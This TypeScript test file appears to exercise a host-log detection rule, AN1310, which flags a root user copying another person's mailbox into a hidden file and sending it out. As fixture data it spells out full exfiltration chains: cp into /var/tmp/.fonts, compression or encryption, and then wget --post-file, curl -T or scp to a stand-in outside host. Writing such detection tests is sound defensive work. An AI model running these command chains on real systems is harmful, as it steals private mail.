import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { factorsOf, firesAt, scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import { mailHost, OUT } from './conditions.test-support.ts';

const BOX = '/var/mail/buyer';
const ONLY_STARTS = { telemetry: { files: false, network: false } };

/** Somebody with the rights of root runs these, a minute apart, where nothing but starts is recorded. */
function commands(...lines: readonly string[]): HostLog {
  const { log } = mailHost(ONLY_STARTS.telemetry);
  const shell = log.shell('ops');
  for (const line of lines) {
    shell.run(line, { who: { ...shell.who, uid: line.includes(BOX) ? 0 : shell.who.uid } });
    log.wait(MINUTE);
  }
  return log;
}

test("another's box copied, packed and posted, by words alone: each hand that it went through is a step, medium", async () => {
  const posts: readonly (readonly [string, string])[] = [
    ['/usr/bin/xz -9 /var/tmp/.fonts', `/usr/bin/wget --post-file=/var/tmp/.fonts.xz http://${OUT}/`],
    ['/usr/bin/gpg -o /var/tmp/.f.gpg -c /var/tmp/.fonts', `/usr/bin/curl -T /var/tmp/.f.gpg http://${OUT}/`],
    ['/usr/bin/tar czf /var/tmp/.f.tgz /var/tmp/.fonts', `/usr/bin/scp -P 2222 /var/tmp/.f.tgz x@${OUT}:`],
  ];
  for (const [pack, send] of posts) {
    const alert = firesAt(await scanLog(commands(`/bin/cp ${BOX} /var/tmp/.fonts`, pack, send)), 'AN1310', 'medium');
    assert.match(alert.story, /with cp, staged it in \/var\/tmp\/\.fonts and sent it out with/, send);
    assert.ok(factorsOf(alert).includes('staged in a hidden place'), send);
    const told = alert.steps.map(({ summary }) => summary).join('\n');
    assert.match(told, /cp \(pid \d+\) puts what it read at \/var\/tmp\/\.fonts$/m);
    assert.match(told, /puts what it read at \/var\/tmp\/\.f/, send);
    assert.doesNotMatch(told, /may have written it/, send);
  }
});

test('what is sent is another file: only time joins it', async () => {
  const log = commands(
    `/bin/cp ${BOX} /var/tmp/.fonts`,
    '/usr/bin/xz -9 /var/tmp/other',
    `/usr/bin/wget --post-file=/var/tmp/other.xz http://${OUT}/`,
  );
  assert.equal(storyOf(await scanLog(log), 'AN1310').severity, 'low');
});

test('of all that one program took out of a box, what left is told as staged', async () => {
  const { log, mine } = mailHost();
  const shell = log.shell('clerk');
  const unpack = shell.run(`/usr/bin/munpack -C in ${mine.path}`).read(mine.path);
  unpack.write('/home/clerk/in/list.txt').write('/home/clerk/in/paper.pdf');
  log.wait(MINUTE);
  shell
    .run(`/usr/bin/curl -T /home/clerk/in/paper.pdf http://${OUT}/`)
    .read('/home/clerk/in/paper.pdf')
    .connect(OUT, 80);
  assert.match(storyOf(await scanLog(log), 'AN1310').story, /staged it in \/home\/clerk\/in\/paper\.pdf and sent/);
});
